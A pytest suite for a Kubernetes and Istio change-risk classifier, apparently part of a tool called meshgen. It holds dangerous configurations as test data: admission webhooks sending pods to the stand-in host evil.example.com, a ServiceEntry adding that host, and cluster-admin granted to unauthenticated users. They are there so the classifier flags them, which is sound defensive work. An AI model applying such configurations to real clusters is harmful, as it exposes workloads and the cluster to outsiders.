"""Each change has the worst risk that it brings, with the reason in words; what no rule knows is not cosmetic."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from meshgen.diff.change import RISKS
from tests.diff.repositories import changed, fleet, one
from tests.objects import Object, text_of

INTERNAL = {"service.beta.kubernetes.io/azure-load-balancer-internal": "true"}
OPERATOR = {"apiVersion": "install.istio.io/v1alpha1", "kind": "IstioOperator"}


def service(type: str = "ClusterIP", *, annotations: Object | None = None, **spec: Any) -> Object:  # noqa: A002
    metadata: Object = {"name": "web", "namespace": "shop"} | ({"annotations": annotations} if annotations else {})
    spec.setdefault("ports", [{"port": 80}])
    return {"apiVersion": "v1", "kind": "Service", "metadata": metadata, "spec": {"type": type, **spec}}


def of(kind: str, api: str = "v1", /, **fields: Any) -> Object:
    return {"apiVersion": api, "kind": kind, "metadata": {"name": "a", "namespace": "x"}, **fields}


def peers(mode: str | None) -> Object:
    return of("PeerAuthentication", "security.istio.io/v1", spec={"mtls": {"mode": mode}} if mode else {})


def rule(mode: str | None) -> Object:
    policy = {"tls": {"mode": mode}} if mode else {}
    return of("DestinationRule", "networking.istio.io/v1", spec={"host": "a", "trafficPolicy": policy})


def operator(**spec: Any) -> Object:
    return {**OPERATOR, "metadata": {"name": "a", "namespace": "istio-system"}, "spec": spec}


def gateway(**k8s: Any) -> Object:
    return operator(components={"ingressGateways": [{"name": "istio-ingressgateway", "enabled": True, "k8s": k8s}]})


def chart(name: str = "gateway", version: str = "1.30.3", **values: Any) -> Object:
    return of("HelmChartRelease", "meshgen.dev/v1", spec={"chart": name, "version": version, "values": values})


def workload(kind: str = "Deployment", **spec: Any) -> Object:
    spec.setdefault("template", {"spec": {"containers": [{"name": "a", "image": "x:1"}]}})
    return of(kind, "apps/v1", spec=spec)


def webhook(policy: str) -> Object:
    hooks = [{"name": "a", "failurePolicy": policy}]
    return of("ValidatingWebhookConfiguration", "admissionregistration.k8s.io/v1", webhooks=hooks)


def namespace(**labels: str) -> Object:
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "a", "labels": labels}}


def ingress(name: str = "", **marks: str) -> Object:
    annotations = {f"nginx.ingress.kubernetes.io/{key.replace('_', '-')}": value for key, value in marks.items()}
    metadata = {"name": "a", "namespace": "x", "annotations": annotations}
    spec = {"ingressClassName": name} if name else {}
    return {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": metadata, "spec": spec}


def rbac(kind: str, **fields: Any) -> Object:
    return of(kind, "rbac.authorization.k8s.io/v1", **fields)


def bound(name: str, *subjects: str, kind: str = "ClusterRoleBinding") -> Object:
    some = [dict(zip(("kind", "name"), one.split(" "), strict=True)) for one in subjects]
    return rbac(kind, roleRef={"kind": "ClusterRole", "name": name}, subjects=some)


def hook(kind: str, **fields: Any) -> Object:
    client = {"url": "https://evil.example.com/hook?token=x"}
    every = {"name": "a", "rules": [{"resources": ["pods"]}], "clientConfig": client, **fields}
    return of(kind, "admissionregistration.k8s.io/v1", webhooks=[every])


def authorization(*rules: Object, **spec: Any) -> Object:
    return of("AuthorizationPolicy", "security.istio.io/v1", spec={**spec, "rules": list(rules)})


def claim(size: str) -> Object:
    return of("PersistentVolumeClaim", spec={"resources": {"requests": {"storage": size}}})


def stateful(size: str) -> Object:
    return workload("StatefulSet", volumeClaimTemplates=[{**claim(size), "metadata": {"name": "a"}}])


def listening(host: str = "*", port: int = 80, istio: str = "ingressgateway") -> Object:
    servers = [{"hosts": [host], "port": {"number": port}}]
    return of("Gateway", "networking.istio.io/v1", spec={"selector": {"istio": istio}, "servers": servers})


def entrance(*listeners: Object, name: str = "istio", **annotations: str) -> Object:
    metadata = {
        "name": "a",
        "namespace": "x",
        "annotations": {f"networking.istio.io/{k}": v for k, v in annotations.items()},
    }
    spec = {"gatewayClassName": name, "listeners": list(listeners)}
    return {"apiVersion": "gateway.networking.k8s.io/v1", "kind": "Gateway", "metadata": metadata, "spec": spec}


def listener(port: int = 443, host: str | None = None, **fields: Any) -> Object:
    return {"name": f"l{port}", "port": port, "protocol": "HTTPS", **({"hostname": host} if host else {}), **fields}


def serving(*servers: Object) -> Object:
    return of("Gateway", "networking.istio.io/v1", spec={"selector": {"istio": "ingress"}, "servers": list(servers)})


def server(*hosts: str, port: int = 443, protocol: str = "HTTPS", **tls: Any) -> Object:
    return {"hosts": list(hosts), "port": {"number": port, "protocol": protocol, "name": f"s{port}"}, "tls": tls}


def routing(*hosts: str | None, tls: tuple[str, ...] = (), **marks: str) -> Object:
    rules = [{"host": host} if host else {"http": {}} for host in hosts]
    given = ingress("nginx", **marks)
    return {**given, "spec": {**given["spec"], "rules": rules, "tls": [{"hosts": [host]} for host in tls]}}


def attaching(where: str | None) -> Object:
    return entrance(listener(**({"allowedRoutes": {"namespaces": {"from": where}}} if where else {})))


def destination(**tls: Any) -> Object:
    policy = {"tls": {"mode": "SIMPLE", **tls}}
    return of("DestinationRule", "networking.istio.io/v1", spec={"host": "a", "trafficPolicy": policy})


def checked(**fields: Any) -> Object:
    client = fields.pop("clientConfig", {"service": {"name": "a"}, "caBundle": "a"})
    one = {"name": "a", "rules": [{"resources": ["pods"]}], "clientConfig": client, **fields}
    return of("MutatingWebhookConfiguration", "admissionregistration.k8s.io/v1", webhooks=[one])


def binding(*actions: str, **spec: Any) -> Object:
    kind = "ValidatingAdmissionPolicyBinding"
    every = {"policyName": "a", "validationActions": list(actions), **spec}
    return of(kind, "admissionregistration.k8s.io/v1", spec=every)


def running(*, pod: Object | None = None, volumes: Object | None = None, **security: Any) -> Object:
    container = {"name": "a", "image": "x:1", "securityContext": security}
    spec = {"containers": [container], "securityContext": pod or {}, "volumes": [{"name": "v", **(volumes or {})}]}
    return workload(template={"spec": spec})


def account(role: str) -> Object:
    metadata = {"name": "a", "namespace": "x", "annotations": {"eks.amazonaws.com/role-arn": role}}
    return {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata}


def grant(*, to: tuple[str, ...] = ("Service",), by: tuple[str, ...] = ("other",)) -> Object:
    spec = {
        "from": [{"kind": "HTTPRoute", "namespace": one} for one in by],
        "to": [{"kind": kind} for kind in to],
    }
    return of("ReferenceGrant", "gateway.networking.k8s.io/v1beta1", spec=spec)


ARN = "arn:aws:iam::123456789012:role/"
ALL = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
READ = {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}
GRANT = {"from": [{"kind": "HTTPRoute", "namespace": "other"}], "to": [{"kind": "Service"}]}
RANGES = {"loadBalancerSourceRanges": ["10.0.0.0/8"]}
OUTBOUND = {"outboundTrafficPolicy": {"mode": "REGISTRY_ONLY"}}
ANONYMOUS = "[auth.anonymous]\nenabled = {}\norg = a\n"

CASES: list[tuple[str, str, Object | None, Object | None]] = [
    ("exposure", "opens to every address", service(), service("LoadBalancer")),
    ("exposure", "every node listens", service(), service("NodePort")),
    ("exposure", "opens to every address", None, service("LoadBalancer")),
    ("exposure", "has externalIPs", service(), service(externalIPs=["1.2.3.4"])),
    ("exposure", "opens to every address", service(), service("LoadBalancer", loadBalancerSourceRanges=["0.0.0.0/0"])),
    (
        "exposure",
        "opens to more addresses: 10.0.0.0/7",
        service("LoadBalancer", **RANGES),
        service("LoadBalancer", loadBalancerSourceRanges=["10.0.0.0/7"]),
    ),
    ("exposure", "sourceRanges leave no address out", service("LoadBalancer", **RANGES), service("LoadBalancer")),
    ("exposure", "not internal any more", service("LoadBalancer", annotations=INTERNAL), service("LoadBalancer")),
    (
        "exposure",
        "not internal any more",
        service("LoadBalancer", annotations=INTERNAL),
        service("LoadBalancer", **RANGES),
    ),
    (
        "exposure",
        "gets more ports: 81/TCP",
        service("LoadBalancer"),
        service("LoadBalancer", ports=[{"port": 80}, {"port": 81}]),
    ),
    (
        "exposure",
        "istio-ingressgateway",
        gateway(service={"type": "ClusterIP"}),
        gateway(service={"type": "LoadBalancer"}),
    ),
    ("exposure", "sourceRanges", gateway(service=RANGES), gateway()),
    (
        "exposure",
        "opens to every address",
        chart(service={"type": "ClusterIP"}),
        chart(service={"type": "LoadBalancer"}),
    ),
    (
        "exposure",
        "opens to every address",
        chart("kiali", deployment={"service_type": "ClusterIP"}),
        chart("kiali", deployment={"service_type": "LoadBalancer"}),
    ),
    ("exposure", "reachable from outside", None, of("Ingress", "networking.k8s.io/v1")),
    ("traffic", "the ranges named", service(), service("LoadBalancer", **RANGES)),
    ("traffic", "an internal network", service(), service("LoadBalancer", annotations=INTERNAL)),
    ("traffic", "loses its address", service("LoadBalancer"), service()),
    ("traffic", "with it its address", service("LoadBalancer"), None),
    ("traffic", "where its traffic goes", service(selector={"a": "b"}), service(selector={"a": "c"})),
    ("cosmetic", "order", service(ports=[{"port": 1}, {"port": 2}]), service(ports=[{"port": 2}, {"port": 1}])),
    ("security", "mTLS becomes PERMISSIVE", peers("STRICT"), peers("PERMISSIVE")),
    ("security", "mTLS becomes unset", peers("STRICT"), peers(None)),
    ("security", "STRICT mTLS goes", peers("STRICT"), None),
    ("traffic", "which connections", peers("PERMISSIVE"), peers("STRICT")),
    ("security", "TLS to the destination becomes DISABLE", rule("ISTIO_MUTUAL"), rule("DISABLE")),
    ("traffic", "how clients connect", rule("DISABLE"), rule("ISTIO_MUTUAL")),
    ("security", "AuthorizationPolicy goes", of("AuthorizationPolicy", "security.istio.io/v1"), None),
    (
        "security",
        "changes what it lets through",
        of("AuthorizationPolicy", spec={"action": "DENY"}),
        of("AuthorizationPolicy", spec={}),
    ),
    ("security", "every host outside", operator(meshConfig=OUTBOUND), operator(meshConfig={"accessLogFile": "x"})),
    (
        "security",
        "every host outside",
        chart("istiod", meshConfig=OUTBOUND),
        chart("istiod", meshConfig={"outboundTrafficPolicy": {"mode": "ALLOW_ANY"}}),
    ),
    (
        "security",
        "every host outside",
        of("ConfigMap", data={"mesh": "a:\n  mode: REGISTRY_ONLY\n"}),
        of("ConfigMap", data={"mesh": "a: b\nc: d\n"}),
    ),
    ("security", "enableAutoMtls", operator(meshConfig={}), operator(meshConfig={"enableAutoMtls": False})),
    (
        "security",
        "logins become anonymous",
        of("ConfigMap", data={"x": ANONYMOUS.format("false")}),
        of("ConfigMap", data={"x": ANONYMOUS.format("true")}),
    ),
    (
        "security",
        "logins become anonymous",
        chart("kiali", auth={"strategy": "token"}),
        chart("kiali", auth={"strategy": "anonymous"}),
    ),
    ("security", "failurePolicy becomes Ignore", webhook("Fail"), webhook("Ignore")),
    ("security", "unchecked", webhook("Fail"), None),
    (
        "security",
        "other rights",
        of("Role", "rbac.authorization.k8s.io/v1", rules=[]),
        of("Role", "rbac.authorization.k8s.io/v1", rules=[{"verbs": ["*"]}]),
    ),
    ("security", "hostNetwork", workload(template={"spec": {}}), workload(template={"spec": {"hostNetwork": True}})),
    ("replacement", "spec.selector is immutable", workload(selector={"a": "b"}), workload(selector={"a": "c"})),
    (
        "replacement",
        "volumeClaimTemplates",
        workload("StatefulSet", volumeClaimTemplates=[]),
        workload("StatefulSet", volumeClaimTemplates=[{"metadata": {"name": "a"}}]),
    ),
    ("replacement", "spec.clusterIP", service(clusterIP="None"), service()),
    (
        "replacement",
        "spec.template",
        of("Job", "batch/v1", spec={"template": {"a": 1}}),
        of("Job", "batch/v1", spec={"template": {"a": 2}}),
    ),
    ("replacement", "all that is in the namespace", namespace(), None),
    ("replacement", "all resources of that kind", of("CustomResourceDefinition", "apiextensions.k8s.io/v1"), None),
    ("replacement", "uninstalls", operator(), None),
    (
        "restart",
        "its pods restart",
        workload(),
        workload(template={"spec": {"containers": [{"name": "a", "image": "x:2"}]}}),
    ),
    ("restart", "its pods start", None, workload()),
    ("restart", "installed anew", operator(tag="1.11.3"), operator(tag="1.11.8")),
    ("restart", "installed anew", operator(revision="a"), operator(revision="b")),
    (
        "restart",
        "installed anew",
        operator(meshConfig={"defaultConfig": {"concurrency": 1}}),
        operator(meshConfig={"defaultConfig": {"concurrency": 2}}),
    ),
    ("restart", "upgraded", chart("istiod", "1.30.2"), chart("istiod", "1.30.3")),
    ("security", "another source", of("OCIRepository", spec={"url": "a"}), of("OCIRepository", spec={"url": "b"})),
    ("restart", "proxy", namespace(), namespace(**{"istio-injection": "enabled"})),
    ("restart", "is not known", of("Odd", "example.com/v1", spec={"a": 1}), of("Odd", "example.com/v1", spec={"a": 2})),
    (
        "traffic",
        "mesh config",
        operator(meshConfig={"accessLogFile": "a"}),
        operator(meshConfig={"accessLogFile": "b"}),
    ),
    (
        "traffic",
        "routes requests",
        of("VirtualService", "networking.istio.io/v1", spec={"http": [{"name": "a"}, {"name": "b"}]}),
        of("VirtualService", "networking.istio.io/v1", spec={"http": [{"name": "b"}, {"name": "a"}]}),
    ),
    ("cosmetic", "that are read", chart("base", meshConfig=OUTBOUND), chart("base", meshConfig={})),
    ("traffic", "hosts and ports", None, of("Gateway", "networking.istio.io/v1")),
    ("cosmetic", "labels and annotations", namespace(), namespace(team="a")),
    ("cosmetic", "nothing that runs reads it yet", None, of("ConfigMap", data={"a": "b"})),
    ("cosmetic", "reads it yet", None, of("CustomResourceDefinition", "apiextensions.k8s.io/v1")),
    ("cosmetic", "reads it yet", None, of("OCIRepository", "source.toolkit.fluxcd.io/v1", spec={"url": "a"})),
    ("restart", "is not known", None, of("Odd", "example.com/v1", spec={"a": 1})),
    (
        "security",
        "it grants ClusterRole cluster-admin to Group system:unauthenticated in every namespace, that is whoever",
        None,
        bound("cluster-admin", "Group system:unauthenticated"),
    ),
    ("security", "to ServiceAccount a", None, bound("view", "ServiceAccount a", kind="RoleBinding")),
    ("security", "may do: all verbs on all resources", None, rbac("ClusterRole", rules=[ALL])),
    ("security", "Secrets can be read", None, rbac("Role", rules=[{**READ, "resources": ["secrets"]}])),
    ("security", "rights of others", None, rbac("Role", rules=[{**READ, "verbs": ["impersonate"]}])),
    ("security", "all verbs on pods", None, rbac("Role", rules=[{**READ, "verbs": ["*"]}])),
    ("security", "those who are bound to it", None, rbac("Role", rules=[READ])),
    (
        "security",
        "all who have view get it too",
        None,
        {
            **rbac("ClusterRole", rules=[ALL]),
            "metadata": {"name": "a", "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
        },
    ),
    (
        "security",
        "it may change pods before they are stored, and sends them to evil.example.com; where it does not answer",
        None,
        hook("MutatingWebhookConfiguration", failurePolicy="Fail"),
    ),
    ("security", "may refuse pods", None, hook("ValidatingWebhookConfiguration", failurePolicy="Ignore")),
    (
        "security",
        "HTTPRoutes of other may refer",
        None,
        of("ReferenceGrant", "gateway.networking.k8s.io/v1beta1", spec=GRANT),
    ),
    ("security", "of its group", None, of("APIService", "apiregistration.k8s.io/v1", spec={"service": {"name": "a"}})),
    ("security", "allows every request", None, authorization({})),
    ("security", "allows every request", None, authorization({"from": [{"source": {"ipBlocks": ["0.0.0.0/0"]}}]})),
    ("security", "allows every request", None, authorization({"to": [{"operation": {"paths": ["/*"]}}]})),
    ("traffic", "no ALLOW AuthorizationPolicy of its workloads allows is refused", None, authorization()),
    (
        "traffic",
        "no ALLOW AuthorizationPolicy of its workloads allows is refused",
        None,
        authorization({"from": [{"source": {"principals": ["*"]}}]}),
    ),
    (
        "traffic",
        "no ALLOW AuthorizationPolicy of its workloads allows is refused",
        None,
        authorization({"to": [{"operation": {"paths": ["/healthz"]}}]}),
    ),
    (
        "traffic",
        "no ALLOW AuthorizationPolicy of its workloads allows is refused",
        None,
        authorization({"to": [{"operation": {"notPaths": ["*"]}}]}),
    ),
    ("traffic", "names is refused", None, authorization({}, action="DENY")),
    ("security", "every connection", None, of("NetworkPolicy", "networking.k8s.io/v1", spec={"ingress": [{}]})),
    ("traffic", "which connections", None, of("NetworkPolicy", "networking.k8s.io/v1", spec={"podSelector": {}})),
    ("exposure", "it makes *:80 reachable", None, listening()),
    ("traffic", "hosts and ports", None, listening(istio="egressgateway")),
    ("exposure", "an Ingress makes", None, ingress("internal")),
    (
        "exposure",
        "it opens to more addresses: 10.0.0.0/7",
        ingress(whitelist_source_range="10.0.0.0/8, 192.0.2.1/32"),
        ingress(whitelist_source_range="10.0.0.0/7,192.0.2.1"),
    ),
    ("exposure", "no range", ingress(allowlist_source_range="10.0.0.0/8"), ingress()),
    (
        "exposure",
        "no range",
        ingress(whitelist_source_range="10.0.0.0/8"),
        ingress(allowlist_source_range="0.0.0.0/0"),
    ),
    ("exposure", "its class becomes public", ingress("nginx-internal"), ingress("public")),
    ("exposure", "the default one", ingress("internal"), ingress()),
    ("traffic", "requests from outside", ingress("nginx"), ingress("internal")),
    ("exposure", "it makes *:8080 reachable at", serving(server("*")), serving(server("*"), server("*", port=8080))),
    ("exposure", "it makes *:443 reachable", serving(server("b.example.com")), serving(server("*"))),
    ("traffic", "hosts and ports", serving(server("*.example.com")), serving(server("b.example.com"))),
    ("traffic", "hosts and ports", serving(server("*/*.example.com")), serving(server("x/b.example.com"))),
    (
        "exposure",
        "it makes */b.example.com:443",
        serving(server("x/b.example.com")),
        serving(server("*/b.example.com")),
    ),
    ("exposure", "it makes *:80 reachable", listening(istio="egressgateway"), listening()),
    ("traffic", "hosts and ports", listening(istio="egressgateway"), listening(port=81, istio="egressgateway")),
    ("exposure", "makes *:80 reachable from outside", entrance(listener()), entrance(listener(), listener(80))),
    ("exposure", "makes *:443 reachable", entrance(listener(host="a.example.com")), entrance(listener())),
    (
        "exposure",
        "its Service is reachable from outside",
        entrance(listener(), **{"service-type": "ClusterIP"}),
        entrance(listener(), **{"service-type": "LoadBalancer"}),
    ),
    ("exposure", "its Service", entrance(listener(), name="istio-waypoint"), entrance(listener())),
    ("exposure", "a Gateway makes what", None, entrance(listener(), name="nginx")),
    ("traffic", "hosts and ports", None, entrance(listener(15008), name="istio-waypoint")),
    (
        "traffic",
        "hosts and ports",
        entrance(listener(), **{"service-type": "ClusterIP"}),
        entrance(listener(), listener(80), **{"service-type": "ClusterIP"}),
    ),
    (
        "exposure",
        "it makes b.example.com reachable",
        routing("a.example.com"),
        routing("a.example.com", "b.example.com"),
    ),
    ("exposure", "it makes * reachable", routing("a.example.com"), routing(None)),
    (
        "exposure",
        "no range keeps any of the internal network out",
        service("LoadBalancer", annotations=INTERNAL, **RANGES),
        service("LoadBalancer", annotations=INTERNAL, loadBalancerSourceRanges=["10.0.0.0/8", "0.0.0.0/0"]),
    ),
    ("security", "clients of a:443 need no", serving(server("a", mode="MUTUAL")), serving(server("a", mode="SIMPLE"))),
    ("traffic", "hosts and ports", serving(server("a", mode="SIMPLE")), serving(server("a", mode="MUTUAL"))),
    ("traffic", "hosts and ports", serving(server("a"), server("b", port=444, mode="MUTUAL")), serving(server("a"))),
    ("security", "no longer redirects", serving(server("a", httpsRedirect=True)), serving(server("a"))),
    ("security", "HTTPS becomes HTTP", serving(server("a")), serving(server("a", protocol="HTTP"))),
    ("security", "HTTPS becomes HTTP", entrance(listener()), entrance(listener(protocol="HTTP"))),
    ("security", "to listener l443: from All", attaching(None), attaching("All")),
    ("security", "to listener l443: from All", attaching("Selector"), attaching("All")),
    ("traffic", "hosts and ports", attaching("All"), attaching("Same")),
    ("security", "tls goes for a.b.c", routing("a.b.c", tls=("*.b.c",)), routing("a.b.c")),
    ("traffic", "from outside", routing("a.b.c", tls=("a.b.c",)), routing("a.b.c", tls=("*.b.c",))),
    ("traffic", "from outside", routing("a.b.c", "d.b.c", tls=("a.b.c",)), routing("d.b.c")),
    ("security", "auth-url goes or is off", routing("a", auth_url="https://x"), routing("a")),
    ("security", "auth-tls-secret goes", routing("a", auth_tls_secret="x/y"), routing("a")),
    (
        "security",
        "auth-tls-verify-client",
        routing("a", auth_tls_verify_client="on"),
        routing("a", auth_tls_verify_client="off"),
    ),
    ("security", "judged otherwise", routing("a", auth_url="https://x"), routing("a", auth_url="https://y")),
    ("security", "ssl-redirect goes or is off", routing("a"), routing("a", ssl_redirect="false")),
    ("traffic", "is read by what runs it", routing("a"), routing("a", auth_url="https://x")),
    ("traffic", "is read by what runs it", routing("a", ssl_redirect="false"), routing("a")),
    (
        "security",
        "certificate is no longer verified",
        destination(subjectAltNames=["a.example.com"]),
        destination(insecureSkipVerify=True),
    ),
    ("security", "subjectAltNames goes", destination(subjectAltNames=["a.example.com"]), destination()),
    ("security", "has more", destination(subjectAltNames=["a"]), destination(subjectAltNames=["a", "b"])),
    ("traffic", "how clients connect", destination(), destination(subjectAltNames=["a.example.com"])),
    ("traffic", "how clients connect", destination(subjectAltNames=["a"]), None),
    ("security", "asked of other objects", checked(), checked(namespaceSelector={"matchLabels": {"a": "b"}})),
    ("security", "asked of other objects", checked(), checked(rules=[{"resources": ["services"]}])),
    ("security", "another server", checked(), checked(clientConfig={"url": "https://evil.example.com"})),
    ("restart", "is not known", checked(), checked(clientConfig={"service": {"name": "a"}, "caBundle": "b"})),
    ("restart", "is not known", checked(), checked(objectSelector={})),
    ("security", "goes through as it is", binding("Deny"), binding("Audit")),
    ("security", "goes through as it is", binding("Deny"), None),
    ("security", "to other objects", binding("Deny"), binding("Deny", matchResources={"matchPolicy": "Exact"})),
    ("restart", "is not known", binding("Audit"), binding("Deny")),
    ("restart", "judges objects from now on", None, binding("Deny")),
    ("security", "container a gets SYS_ADMIN", running(), running(capabilities={"add": ["SYS_ADMIN"]})),
    ("restart", "its pods restart", running(), running(capabilities={"add": ["NET_BIND_SERVICE"]})),
    ("restart", "its pods restart", running(capabilities={"add": ["SYS_ADMIN"]}), running()),
    ("security", "mount /var/run of their node", running(), running(volumes={"hostPath": {"path": "/var/run"}})),
    ("security", "may run as root", running(runAsNonRoot=True), running()),
    ("security", "may run as root", running(pod={"runAsNonRoot": True}), running()),
    ("security", "a runs as root", running(runAsNonRoot=True), running(runAsUser=0)),
    ("restart", "its pods restart", running(pod={"runAsNonRoot": True}), running(runAsNonRoot=True)),
    ("restart", "its pods restart", running(), running(runAsUser=1000)),
    ("security", "HTTPRoutes of other, HTTPRoutes of third may refer", grant(), grant(by=("other", "third"))),
    ("security", "Service, Secret", grant(), grant(to=("Service", "Secret"))),
    ("traffic", "who may refer", grant(to=("Service", "Secret")), grant()),
    ("security", "as another identity", account(f"{ARN}a"), account(f"{ARN}b")),
    ("security", "as another identity", None, account(f"{ARN}a")),
    ("restart", "are refused from now on", None, of("ResourceQuota", spec={"hard": {"pods": "1"}})),
    ("security", "an AuthorizationPolicy goes", authorization(), None),
    ("replacement", "a claim can't shrink", claim("10Gi"), claim("5Gi")),
    ("replacement", "a claim can't shrink", claim("1Gi"), claim("1G")),
    ("replacement", "a claim can't shrink", stateful("1e10"), stateful("5G")),
    ("restart", "is not known", claim("1Gi"), claim("2Gi")),
]


@pytest.mark.parametrize(("risk", "reason", "old", "new"), CASES)
def test_change_has_its_risk_and_reason(risk: str, reason: str, old: Object | None, new: Object | None):
    change = changed(old, new)

    assert (change.risk, reason in " ".join(change.reasons)) == (risk, True), change.reasons


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every map and list below a value, with each of its keys."""
    for key in list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
        yield value, key
        yield from places(value[key])


@settings(max_examples=500, deadline=None)
@given(
    st.sampled_from([(old, new) for *_, old, new in CASES if old or new]),
    st.booleans(),
    st.integers(min_value=0),
    st.sampled_from([None, 1, True, "x", [], {}, [None], ["x"], [[1]], [{"a": 1}], {"a": None}]),
)
def test_no_shape_of_an_object_breaks_the_risks(
    pair: tuple[Object | None, Object | None], first: bool, place: int, odd: Any
):
    old, new = copy.deepcopy(pair)
    known = {"apiVersion", "kind", "metadata", "name", "namespace"}
    some = [one for one in places(old if first else new) if one[1] not in known]
    if some:
        holder, key = some[place % len(some)]
        holder[key] = odd

    if old != new:
        assert changed(old, new).risk in RISKS


def test_every_risk_has_a_case():
    assert {risk for risk, *_ in CASES} == set(RISKS)


@pytest.mark.parametrize(
    ("old", "new"), [(old, new) for risk, _, new, old in CASES if risk == "exposure" and old and new]
)
def test_closing_what_was_open_is_no_exposure(old: Object, new: Object):
    assert changed(old, new).risk != "exposure"


def test_another_class_of_an_ingress_is_an_exposure_unless_it_is_called_internal():
    assert changed(ingress("nginx"), ingress("public")).risk == "exposure"
    assert changed(ingress("public"), ingress("internal")).risk == "traffic"


def test_the_scheme_of_an_ingress_says_whether_it_is_internal():
    def scheme(value: str | None) -> Object:
        marks = {"alb.ingress.kubernetes.io/scheme": value} if value else {}
        return {**ingress("alb"), "metadata": {"name": "a", "namespace": "x", "annotations": marks}}

    assert changed(scheme("internal"), scheme("internet-facing")).risk == "exposure"
    assert changed(scheme(None), scheme("internet-facing")).risk == "exposure"
    assert changed(scheme("internet-facing"), scheme(None)).risk == "traffic"


def test_a_value_that_sops_no_longer_encrypts_is_a_risk():
    ciphertext = "ENC[AES256_GCM,data:YQ==,iv:YQ==,tag:YQ==,type:str]"

    def risk(before: str, after: str) -> str:
        return changed(of("Secret", stringData={"a": before}), of("Secret", stringData={"a": after})).risk

    assert risk(ciphertext, "plain") == "security"
    assert risk(ciphertext, ciphertext.replace("YQ", "Yg")) != "security"
    assert risk("plain", ciphertext) != "security"


@pytest.mark.parametrize(
    ("outbound", "spec", "risk"),
    [
        (OUTBOUND, {}, "security"),
        (OUTBOUND, {"location": "MESH_INTERNAL"}, "security"),
        (OUTBOUND, {"location": "MESH_INTERNAL", "workloadSelector": {"labels": {"a": "b"}}}, "traffic"),
        ({}, {}, "traffic"),
    ],
)
def test_a_host_more_is_a_risk_where_workloads_reach_known_hosts_alone(outbound: Object, spec: Object, risk: str):
    def entry(*hosts: str) -> Object:
        return of("ServiceEntry", "networking.istio.io/v1", spec={"hosts": list(hosts), **spec})

    def found(old: Object | None, new: Object) -> str:
        return changed(old, new, among=(chart("istiod", meshConfig=outbound),)).risk

    assert found(None, entry("evil.example.com")) == risk
    assert found(entry("a.example.com"), entry("a.example.com", "evil.example.com")) == risk
    assert found(entry("a.example.com", "b.example.com"), entry("a.example.com")) == "traffic"


@pytest.mark.parametrize(
    ("others", "risk", "reason"),
    [
        ([{}], "security", "it allows more where another ALLOW policy of its namespace is for the same workloads"),
        ([{"action": "DENY"}], "traffic", "is refused from now on"),
        ([], "traffic", "is refused from now on"),
    ],
)
def test_a_second_policy_that_allows_opens(others: list[Object], risk: str, reason: str):
    def policy(name: str, **spec: Any) -> Object:
        return {
            **authorization({"to": [{"operation": {"paths": ["/x"]}}]}, **spec),
            "metadata": {"name": name, "namespace": "x"},
        }

    change = changed(None, policy("b"), among=[policy("c", **spec) for spec in others])

    assert (change.risk, reason in " ".join(change.reasons)) == (risk, True), change.reasons


@pytest.mark.parametrize(("outbound", "risk"), [({}, "security"), (OUTBOUND, "traffic")])
def test_a_sidecar_that_goes_opens_where_the_mesh_does_not_keep_in(outbound: Object, risk: str):
    def sidecar(name: str) -> Object:
        return {**of("Sidecar", "networking.istio.io/v1", spec=OUTBOUND), "metadata": {"name": name, "namespace": "x"}}

    among = (chart("istiod", meshConfig=outbound), sidecar("other"))

    assert changed(sidecar("a"), None, among=among).risk == risk


def test_an_application_that_leaves_takes_its_objects_along(tmp_path: Path):
    from meshgen.diff.story import diff

    delivery = {"argocd": {"url": "https://example.com/a.git"}}
    fleet(tmp_path / "old", delivery=delivery, addons={"kiali": {}})
    fleet(tmp_path / "new", delivery=delivery)

    found = diff(str(tmp_path / "old"), tmp_path / "new" / "meshgen.yaml")

    told = {
        (group.change.action, group.change.risk, group.change.reasons)
        for group in found.groups
        if group.change.key.kind == "Application"
    }
    assert told == {("removed", "replacement", ("its root deletes it, and Argo CD what it applied",))}


def test_an_object_that_moves_between_stages_is_replaced():
    change = changed(workload(), workload(), stages=("addons", "gateways"))

    assert (change.action, change.risk) == ("moved", "replacement")
    assert "from stage addons to gateways" in change.reasons[0]


def test_what_no_engine_prunes_stays_until_it_is_deleted():
    (reason,) = changed(namespace(), None, stages=("namespaces", "namespaces")).reasons

    assert reason == "nothing prunes it, but once it is deleted, all that is in the namespace goes with it"


@pytest.mark.parametrize(
    ("delivery", "stays"),
    [
        ({"argocd": {"url": "https://example.com/a.git"}}, {"Job/lone", "ConfigMap/far"}),
        ({"argocd": {"url": "https://example.com/a.git"}, "flux": {"url": "https://example.com/a.git"}}, set()),
        ({"flux": {"url": "https://example.com/a.git"}}, set()),
    ],
)
def test_what_argo_cds_project_no_longer_allows_is_said_to_stay(tmp_path: Path, delivery: Object, stays: set[str]):
    from meshgen.diff.story import diff

    job = {"containers": [{"name": "a", "image": "a:1"}], "restartPolicy": "Never"}
    gone: list[Object] = [
        {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "lone", "namespace": "apps"}},
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "far", "namespace": "elsewhere"}},
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "near", "namespace": "apps"}},
    ]
    gone[0]["spec"] = {"template": {"spec": job}}
    kept: Object = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "kept", "namespace": "apps"}}
    for side, objects in (("old", [kept, *gone]), ("new", [kept])):
        fleet(tmp_path / side, delivery=delivery, resources={"all": {"path": "all.yaml"}})
        (tmp_path / side / "all.yaml").write_text("---\n".join(f"{text_of(obj)}\n" for obj in objects))

    found = diff(str(tmp_path / "old"), tmp_path / "new" / "meshgen.yaml")

    changes = [
        group.change for group in found.groups if group.change.action == "removed" and not group.change.key.space
    ]
    told = {f"{one.key.kind}/{one.key.name}": one.reasons for one in changes}
    assert told.keys() == {"Job/lone", "ConfigMap/far", "ConfigMap/near"}
    assert {name for name, reasons in told.items() if any("Argo CD leaves it" in one for one in reasons)} == stays


